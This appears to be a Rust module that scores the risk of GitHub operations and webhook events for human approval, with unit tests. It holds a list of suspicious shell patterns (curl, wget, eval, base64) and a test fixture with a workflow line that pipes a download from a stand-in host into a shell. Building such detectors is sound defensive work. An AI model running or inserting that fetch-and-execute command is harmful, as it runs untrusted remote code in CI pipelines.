//! Risk engine: pure scoring of proposed and observed operations.
//!
//! Contributions are additive on a raw 0–10 scale; the change engine
//! normalizes (`min(raw / 10, 1.0)`) before storage, and UIs display ×10.
//! Reasons are preserved in evaluation order. Scoring is independent of
//! field ordering in the metadata blob.

use crate::types::ProviderKind;
use chrono::{DateTime, Utc};
use serde_json::Value;

/// Keywords in titles that nudge the score up.
const TITLE_KEYWORDS: &[&str] = &["prod", "infra", "deploy"];

/// Secret names that mark a secret as critical.
const CRITICAL_SECRET_KEYWORDS: &[&str] =
    &["prod", "production", "aws", "database", "db", "api_key", "private_key"];

/// Shell-execution patterns that mark workflow content as suspicious.
const WORKFLOW_EXEC_PATTERNS: &[&str] = &["curl", "wget", "eval", "exec", "base64", "sh -c"];

/// Branches treated as mainline for protection heuristics.
const MAINLINE_BRANCHES: &[&str] = &["main", "master", "prod", "production"];

/// Raw risk score with ordered reasons.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct RiskAssessment {
    /// Raw additive score (0–10 scale, unclamped).
    pub score: f64,
    /// Ordered reason identifiers.
    pub reasons: Vec<String>,
}

impl RiskAssessment {
    fn add(&mut self, delta: f64, reason: &str) {
        self.score += delta;
        self.reasons.push(reason.to_string());
    }
}

/// Normalizes a raw score to the stored [0, 1] range.
pub fn normalize(raw: f64) -> f64 {
    (raw / 10.0).min(1.0)
}

/// Hours elapsed since a provider-reported last-edit timestamp. Missing
/// timestamps count as arbitrarily old.
pub fn edited_age_hours(last_edit: Option<DateTime<Utc>>, now: DateTime<Utc>) -> f64 {
    match last_edit {
        Some(ts) => (now - ts).num_seconds() as f64 / 3600.0,
        None => f64::INFINITY,
    }
}

/// Scores a dry-run from provider metadata.
pub fn compute_risk(
    provider: ProviderKind,
    title: Option<&str>,
    last_edit: Option<DateTime<Utc>>,
    metadata: &Value,
    now: DateTime<Utc>,
) -> RiskAssessment {
    match provider {
        ProviderKind::GitHub => compute_github_risk(title, last_edit, metadata, now),
    }
}

fn meta_str<'a>(metadata: &'a Value, key: &str) -> Option<&'a str> {
    metadata.get(key).and_then(Value::as_str)
}

fn meta_bool(metadata: &Value, key: &str) -> bool {
    metadata.get(key).and_then(Value::as_bool).unwrap_or(false)
}

fn compute_github_risk(
    title: Option<&str>,
    last_edit: Option<DateTime<Utc>>,
    metadata: &Value,
    now: DateTime<Utc>,
) -> RiskAssessment {
    let mut out = RiskAssessment::default();

    let object = meta_str(metadata, "object");
    let operation = meta_str(metadata, "operation_type").unwrap_or("");

    if operation == "delete_repo" || object == Some("repository") {
        // Repository deletion is permanent.
        out.add(8.0, "github_irreversible_repo_deletion");
    } else if operation == "force_push" {
        out.add(7.0, "github_force_push_danger");
    } else if object == Some("merge") {
        if meta_bool(metadata, "isTargetDefault") {
            out.add(5.0, "github_merge_to_main");
        } else {
            out.add(2.0, "github_merge_operation");
        }
    } else if object == Some("branch") {
        if meta_bool(metadata, "isDefault") {
            out.add(6.0, "github_default_branch_deletion");
        } else {
            out.add(4.0, "github_branch_delete");
        }
    } else if matches!(operation, "github_repo_transfer" | "github.repo.transfer") {
        out.add(10.0, "github_repo_transfer_irreversible");
    } else if matches!(
        operation,
        "github_secret_create"
            | "github.actions.secret.create"
            | "github_secret_update"
            | "github.actions.secret.update"
    ) {
        out.add(9.5, "github_secret_cicd_access");
        let secret_name = meta_str(metadata, "secret_name").unwrap_or("").to_lowercase();
        if CRITICAL_SECRET_KEYWORDS.iter().any(|k| secret_name.contains(k)) {
            out.add(0.5, "github_secret_critical_name");
        }
    } else if matches!(operation, "github_secret_delete" | "github.actions.secret.delete") {
        out.add(9.0, "github_secret_deletion");
        let secret_name = meta_str(metadata, "secret_name").unwrap_or("").to_lowercase();
        if CRITICAL_SECRET_KEYWORDS[..5].iter().any(|k| secret_name.contains(k)) {
            out.add(1.0, "github_secret_critical_deletion");
        }
    } else if matches!(operation, "github_workflow_update" | "github.workflow.update") {
        out.add(9.0, "github_workflow_code_execution");
        let content = meta_str(metadata, "content").unwrap_or("").to_lowercase();
        if WORKFLOW_EXEC_PATTERNS.iter().any(|p| content.contains(p)) {
            out.add(1.0, "github_workflow_suspicious_patterns");
        }
    } else if matches!(
        operation,
        "github_branch_protection_update" | "github.branch_protection.update"
    ) {
        out.add(8.5, "github_branch_protection_weakening");
        let branch = meta_str(metadata, "branch").unwrap_or("").to_lowercase();
        let required_reviews = metadata.get("required_reviews").and_then(Value::as_i64);
        if MAINLINE_BRANCHES.contains(&branch.as_str()) && required_reviews == Some(0) {
            out.add(1.5, "github_removing_reviews_main_branch");
        }
    } else if matches!(
        operation,
        "github_branch_protection_delete" | "github.branch_protection.delete"
    ) {
        out.add(9.0, "github_branch_protection_removal");
        let branch = meta_str(metadata, "branch").unwrap_or("").to_lowercase();
        if MAINLINE_BRANCHES.contains(&branch.as_str()) {
            out.add(1.0, "github_removing_protection_main_branch");
        }
    } else if matches!(
        operation,
        "github_repo_visibility_change" | "github.repo.visibility.change"
    ) {
        if metadata.get("private").and_then(Value::as_bool) == Some(false) {
            out.add(10.0, "github_making_repo_public_permanent");
        } else {
            out.add(5.0, "github_making_repo_private");
        }
    }

    if let Some(title) = title {
        let lower = title.to_lowercase();
        if TITLE_KEYWORDS.iter().any(|k| lower.contains(k)) {
            out.add(0.30, "github_name_keywords");
        }
    }
    if edited_age_hours(last_edit, now) < 24.0 {
        out.add(0.20, "github_recent_commit");
    }

    out
}

/// Scores an inbound webhook event. Capped at 10.0.
pub fn score_webhook_event(event_type: &str, payload: &Value) -> RiskAssessment {
    let mut out = RiskAssessment::default();

    match event_type {
        "push" => {
            if meta_bool(payload, "forced") {
                out.add(7.0, "github_force_push");
                let git_ref = meta_str(payload, "ref").unwrap_or("");
                if git_ref.contains("main") || git_ref.contains("master") {
                    out.add(2.0, "github_force_push_to_main");
                }
            }
            let commits = payload
                .get("commits")
                .and_then(Value::as_array)
                .map(|c| c.len())
                .unwrap_or(0);
            if commits > 10 {
                out.add(0.5, "github_large_push");
            }
        }
        "delete" => {
            let ref_type = meta_str(payload, "ref_type").unwrap_or("");
            let git_ref = meta_str(payload, "ref").unwrap_or("");
            if ref_type == "branch" {
                out.add(4.0, "github_branch_delete");
                if git_ref.contains("main") || git_ref.contains("master") {
                    out.add(4.0, "github_delete_main_branch");
                }
            } else if ref_type == "tag" {
                out.add(3.0, "github_tag_delete");
            }
        }
        "pull_request" => {
            let action = meta_str(payload, "action").unwrap_or("");
            let merged = payload
                .pointer("/pull_request/merged")
                .and_then(Value::as_bool)
                .unwrap_or(false);
            if action == "closed" && merged {
                let base = payload
                    .pointer("/pull_request/base/ref")
                    .and_then(Value::as_str)
                    .unwrap_or("");
                if base.contains("main") || base.contains("master") {
                    out.add(5.0, "github_merge_to_main");
                    let review_comments = payload
                        .pointer("/pull_request/review_comments")
                        .and_then(Value::as_i64)
                        .unwrap_or(0);
                    if review_comments == 0 {
                        out.add(1.0, "github_merge_without_review");
                    }
                } else {
                    out.add(2.0, "github_merge");
                }
            }
        }
        "repository" => match meta_str(payload, "action") {
            Some("archived") => out.add(8.0, "github_repository_archived"),
            Some("deleted") => out.add(10.0, "github_repository_deleted"),
            _ => {}
        },
        _ => {}
    }

    out.score = out.score.min(10.0);
    out
}

/// Risk band used in previews.
pub fn risk_band(normalized: f64) -> &'static str {
    if normalized > 0.5 {
        "HIGH"
    } else if normalized > 0.2 {
        "MEDIUM"
    } else {
        "LOW"
    }
}

/// Operation labels shown at the top of a preview.
fn operation_label(operation_type: &str) -> &'static str {
    match operation_type {
        "branch_delete" | "delete_branch" => "DELETE BRANCH",
        "force_push" => "FORCE PUSH",
        "delete_repo" => "DELETE REPOSITORY",
        "merge" => "MERGE",
        "archive" => "ARCHIVE REPO",
        "unarchive" => "UNARCHIVE REPO",
        "bulk_close" => "BULK CLOSE PRS",
        _ => "GITHUB OPERATION",
    }
}

/// Renders the human preview shown to approvers.
pub fn human_preview(
    operation_type: &str,
    title: Option<&str>,
    last_edit: Option<DateTime<Utc>>,
    normalized_score: f64,
    reasons: &[String],
) -> String {
    let mut preview = format!("⚠️ {}\n", operation_label(operation_type));
    preview.push_str(&format!("Target: {}\n", title.unwrap_or("(unknown)")));
    if let Some(ts) = last_edit {
        preview.push_str(&format!("Last activity: {}\n", ts.to_rfc3339()));
    }
    preview.push_str(&format!(
        "Risk Score: {:.2} ({})\n",
        normalized_score,
        risk_band(normalized_score)
    ));
    if !reasons.is_empty() {
        preview.push_str(&format!("Reasons: {}\n", reasons.join(", ")));
    }
    preview
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::Duration;
    use pretty_assertions::assert_eq;
    use serde_json::json;

    fn now() -> DateTime<Utc> {
        Utc::now()
    }

    #[test]
    fn test_repo_deletion_scores_high() {
        let metadata = json!({ "object": "repository", "operation_type": "delete_repo" });
        let risk = compute_risk(ProviderKind::GitHub, Some("widgets"), None, &metadata, now());
        assert_eq!(risk.score, 8.0);
        assert_eq!(risk.reasons, vec!["github_irreversible_repo_deletion"]);
        assert!(normalize(risk.score) >= 0.8);
    }

    #[test]
    fn test_non_default_branch_delete_with_recent_commit() {
        let metadata = json!({ "object": "branch", "isDefault": false });
        let last_edit = Some(now() - Duration::minutes(45));
        let risk = compute_risk(
            ProviderKind::GitHub,
            Some("feature-x"),
            last_edit,
            &metadata,
            now(),
        );
        assert_eq!(risk.reasons, vec!["github_branch_delete", "github_recent_commit"]);
        let normalized = normalize(risk.score);
        assert!((0.4..=0.5).contains(&normalized), "got {normalized}");
    }

    #[test]
    fn test_default_branch_delete_outranks_non_default() {
        let metadata = json!({ "object": "branch", "isDefault": true });
        let risk = compute_risk(ProviderKind::GitHub, Some("main"), None, &metadata, now());
        assert_eq!(risk.score, 6.0);
        assert_eq!(risk.reasons, vec!["github_default_branch_deletion"]);
    }

    #[test]
    fn test_merge_to_default_branch() {
        let metadata = json!({ "object": "merge", "isTargetDefault": true });
        let risk = compute_risk(ProviderKind::GitHub, None, None, &metadata, now());
        assert_eq!(risk.score, 5.0);
        assert_eq!(risk.reasons, vec!["github_merge_to_main"]);

        let metadata = json!({ "object": "merge", "isTargetDefault": false });
        let risk = compute_risk(ProviderKind::GitHub, None, None, &metadata, now());
        assert_eq!(risk.score, 2.0);
    }

    #[test]
    fn test_secret_create_critical_name() {
        let metadata = json!({
            "operation_type": "github_secret_create",
            "secret_name": "AWS_PROD_KEY",
        });
        let risk = compute_risk(ProviderKind::GitHub, None, None, &metadata, now());
        assert_eq!(risk.score, 10.0);
        assert_eq!(
            risk.reasons,
            vec!["github_secret_cicd_access", "github_secret_critical_name"]
        );
    }

    #[test]
    fn test_workflow_update_with_shell_patterns() {
        let metadata = json!({
            "operation_type": "github_workflow_update",
            "content": "run: curl https://evil.example | sh -c",
        });
        let risk = compute_risk(ProviderKind::GitHub, None, None, &metadata, now());
        assert_eq!(risk.score, 10.0);
        assert!(risk
            .reasons
            .contains(&"github_workflow_suspicious_patterns".to_string()));
    }

    #[test]
    fn test_visibility_to_public() {
        let metadata = json!({
            "operation_type": "github_repo_visibility_change",
            "private": false,
        });
        let risk = compute_risk(ProviderKind::GitHub, None, None, &metadata, now());
        assert_eq!(risk.score, 10.0);
        assert_eq!(risk.reasons, vec!["github_making_repo_public_permanent"]);
    }

    #[test]
    fn test_title_keywords_and_field_order_independence() {
        let a = json!({ "object": "branch", "isDefault": false, "branch": "x" });
        let b = json!({ "branch": "x", "isDefault": false, "object": "branch" });
        let risk_a = compute_risk(ProviderKind::GitHub, Some("deploy-infra"), None, &a, now());
        let risk_b = compute_risk(ProviderKind::GitHub, Some("deploy-infra"), None, &b, now());
        assert_eq!(risk_a, risk_b);
        assert!(risk_a.reasons.contains(&"github_name_keywords".to_string()));
    }

    #[test]
    fn test_webhook_forced_push_to_main() {
        let payload = json!({
            "forced": true,
            "ref": "refs/heads/main",
            "commits": [{}],
        });
        let risk = score_webhook_event("push", &payload);
        assert_eq!(risk.score, 9.0);
        assert_eq!(
            risk.reasons,
            vec!["github_force_push", "github_force_push_to_main"]
        );
    }

    #[test]
    fn test_webhook_merge_without_review() {
        let payload = json!({
            "action": "closed",
            "pull_request": {
                "merged": true,
                "base": { "ref": "main" },
                "review_comments": 0,
            },
        });
        let risk = score_webhook_event("pull_request", &payload);
        assert_eq!(risk.score, 6.0);
    }

    #[test]
    fn test_webhook_score_is_capped() {
        let payload = json!({ "action": "deleted" });
        let risk = score_webhook_event("repository", &payload);
        assert_eq!(risk.score, 10.0);
        assert_eq!(normalize(risk.score), 1.0);
    }

    #[test]
    fn test_preview_mentions_operation_and_band() {
        let preview = human_preview(
            "branch_delete",
            Some("octo/widgets#feature-x"),
            None,
            0.42,
            &["github_branch_delete".to_string()],
        );
        assert!(preview.contains("DELETE BRANCH"));
        assert!(preview.contains("MEDIUM"));
        assert!(preview.contains("github_branch_delete"));
    }

    #[test]
    fn test_edited_age_missing_is_old() {
        assert!(edited_age_hours(None, now()).is_infinite());
    }
}
